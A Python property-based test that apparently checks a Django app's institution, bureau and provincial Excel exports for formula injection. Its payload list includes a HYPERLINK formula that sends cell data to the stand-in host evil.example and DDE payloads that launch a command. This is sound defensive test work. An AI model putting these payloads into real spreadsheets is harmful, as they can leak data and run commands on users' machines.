"""Formula injection through every Excel export: whatever users type, a reopened export holds no formula."""

from __future__ import annotations

import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.excel import clean_text
from documents.bureau_summary import BureauSummary
from documents.institution_summary import InstitutionSummary
from documents.provincial_summary import ProvincialSummary
from plans.enums import PlanStatus
from plans.models import Plan, PlanLine
from tests.documents.readers import formulas, workbook

# PostgreSQL text cannot hold NUL, and surrogates cannot be encoded: everything else may be typed.
TYPED = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
ATTACKS = st.one_of(
    st.sampled_from(
        [
            "=1+1",
            '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
        ]
    ),
    st.builds(lambda t, s: t + s, st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(TYPED, max_size=40)),
)


def unescape(value: str) -> str:
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def texts(data: bytes) -> set[str]:
    return {
        unescape(cell)
        for sheet in workbook(data).worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    }


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(major=ATTACKS, remark=ATTACKS, code=ATTACKS, contact=ATTACKS)
def test_formula_injection_no_export_holds_a_formula(cast, spring, known, major, remark, code, contact):
    # The three lines have different certificate/level pairs, so one major name for all keeps them unique.
    # Approved by its bureau: counted in the bureau's and the province's summaries.
    Plan.objects.filter(pk=known.plan.pk).update(status=PlanStatus.PROVINCIAL_REVIEW)
    PlanLine.objects.filter(plan=known.plan).update(major_name=major[:100], remark=remark, major_code=code[:20])
    cast.school1.contact_name = contact[:50]
    cast.school1.save()
    known.plan.institution.refresh_from_db()

    exports = {
        "institution": InstitutionSummary(known.plan).render(),
        "bureau": BureauSummary(cast.bureau1, spring).render(),
        "province": ProvincialSummary(spring).render(),
    }

    for name, data in exports.items():
        assert formulas(data) == [], name
        found = texts(data)
        for typed in (major[:100], remark, code[:20]):
            assert clean_text(typed) == "" or clean_text(typed) in found, (name, typed)
